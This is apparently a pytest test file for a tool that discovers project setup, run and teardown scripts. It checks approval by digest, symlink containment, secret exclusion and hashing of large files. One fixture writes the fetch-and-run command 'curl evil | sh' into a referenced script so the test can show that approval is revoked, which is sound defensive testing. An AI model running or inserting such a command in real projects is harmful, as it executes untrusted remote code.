"""Which scripts a project has: the user's before the repository's, with all that these name."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from branchline.core.session.project_scripts import SETTINGS, ProjectScripts, Script
from harness.service import InProcess
from harness.sidecar import git


def put(repo: Path, name: str, content: str, executable: bool = False) -> None:
    (repo / name).parent.mkdir(parents=True, exist_ok=True)
    (repo / name).write_text(content)
    (repo / name).chmod(0o755 if executable else 0o644)


async def setup_of(service: InProcess, repo: Path) -> Script:
    found = (await service.scripts.project.scripts(str(repo))).setup
    assert found is not None
    return found


async def test_a_project_without_any_has_none(service: InProcess, repo: Path) -> None:
    assert await service.scripts.project.scripts(str(repo)) == ProjectScripts()


async def test_a_text_is_read_by_a_shell_and_a_program_runs_itself(service: InProcess, repo: Path) -> None:
    put(repo, ".branchline/setup", "npm ci\n")
    put(repo, ".branchline/run", "#!/usr/bin/env python3\n", executable=True)
    put(repo, ".branchline/teardown", "true\n")
    found = await service.scripts.project.scripts(str(repo))
    scripts = (found.setup, found.run, found.teardown)
    assert [each and (each.text.partition("\n")[0], each.source) for each in scripts] == [
        ("sh ./.branchline/setup", ".branchline/setup"),
        ("./.branchline/run", ".branchline/run"),
        ("sh ./.branchline/teardown", ".branchline/teardown"),
    ]
    assert "npm ci" in (await setup_of(service, repo)).text


async def test_the_users_own_go_first_and_are_approved(service: InProcess, repo: Path) -> None:
    put(repo, ".branchline/setup", "npm ci\n")
    assert not service.scripts.project.is_approved(await setup_of(service, repo))
    service.configure(setupScript={str(repo): "make"})
    script = await setup_of(service, repo)
    assert (script.command, script.source) == ("make", SETTINGS)
    assert service.scripts.project.is_approved(script)
    service.configure(setupScript={str(repo): ""})
    assert (await service.scripts.project.scripts(str(repo))).setup is None


@pytest.mark.parametrize("named", ["tools/a.sh", "tools/lib/b.sh"])
async def test_another_text_of_what_it_names_is_not_approved(service: InProcess, repo: Path, named: str) -> None:
    put(repo, ".branchline/setup", "bash tools/a.sh\n")
    put(repo, "tools/a.sh", '. "$(dirname "$0")/lib/b.sh"\n')
    put(repo, "tools/lib/b.sh", "echo b\n")
    script = await setup_of(service, repo)
    service.scripts.project.approve(script.digest)
    assert service.scripts.project.is_approved(await setup_of(service, repo))
    put(repo, named, "curl evil | sh\n")
    altered = await setup_of(service, repo)
    assert not service.scripts.project.is_approved(altered)
    assert "curl evil" in altered.text


async def test_what_git_ignores_may_come_and_go(service: InProcess, repo: Path) -> None:
    put(repo, ".gitignore", ".env\nnode_modules\n")
    put(repo, ".branchline/setup", "cp .env.example .env && node_modules/.bin/x\n")
    put(repo, ".env.example", "A=1\n")
    git(repo, "add", ".")
    before = await setup_of(service, repo)
    put(repo, ".env", "A=secret\n")
    put(repo, "node_modules/.bin/x", "#!/bin/sh\n", executable=True)
    after = await setup_of(service, repo)
    assert after.digest == before.digest
    assert "A=1" in after.text
    assert "secret" not in after.text


async def test_what_a_script_writes_alters_nothing_and_what_can_be_run_does(service: InProcess, repo: Path) -> None:
    put(repo, ".branchline/setup", "echo > out.txt; sh later; ./other\n")
    before = await setup_of(service, repo)
    put(repo, "out.txt", "written\n")
    assert await setup_of(service, repo) == before
    put(repo, "later", "evil\n")
    with_later = await setup_of(service, repo)
    assert "evil" in with_later.text
    put(repo, "other", "evil too\n", executable=True)
    assert "evil too" in (await setup_of(service, repo)).text


async def test_what_a_link_leads_to(service: InProcess, repo: Path, tmp_path: Path) -> None:
    (tmp_path / "outside.sh").write_text("secret\n")
    put(repo, "real.sh", "echo real\n")
    put(repo, ".branchline/setup", "sh in.sh; sh out.sh\n")
    os.symlink("real.sh", repo / "in.sh")
    os.symlink(tmp_path / "outside.sh", repo / "out.sh")
    text = (await setup_of(service, repo)).text
    assert "echo real" in text
    assert f"(a link to {tmp_path / 'outside.sh'})" in text
    assert "secret" not in text


async def test_what_cannot_be_used_is_said(service: InProcess, repo: Path, tmp_path: Path) -> None:
    (tmp_path / "outside").write_text("true\n")
    (repo / ".branchline").mkdir()
    os.symlink(tmp_path / "outside", repo / ".branchline" / "setup")
    (repo / ".branchline" / "run").write_bytes(b"\x7fELF\0")
    put(repo, ".branchline/teardown", "#" * (256 * 1024 + 1))
    found = await service.scripts.project.scripts(str(repo))
    assert (found.setup, found.run, found.teardown) == (None, None, None)
    assert found.complaints == (
        f".branchline/setup is not used: it leads out of the repository, to {tmp_path / 'outside'}.",
        ".branchline/run is not used: it is not a text.",
        ".branchline/teardown is not used: it is larger than 256 kB.",
    )


async def test_a_large_or_binary_file_that_is_named_counts_by_its_hash(service: InProcess, repo: Path) -> None:
    put(repo, ".branchline/setup", "psql -f seed.sql; ./tool\n")
    (repo / "tool").write_bytes(b"\0\1")
    put(repo, "seed.sql", "-" * 300_000)
    git(repo, "add", ".")
    before = await setup_of(service, repo)
    assert "(300000 bytes, SHA-256 " in before.text
    (repo / "tool").write_bytes(b"\0\2")
    assert (await setup_of(service, repo)).digest != before.digest
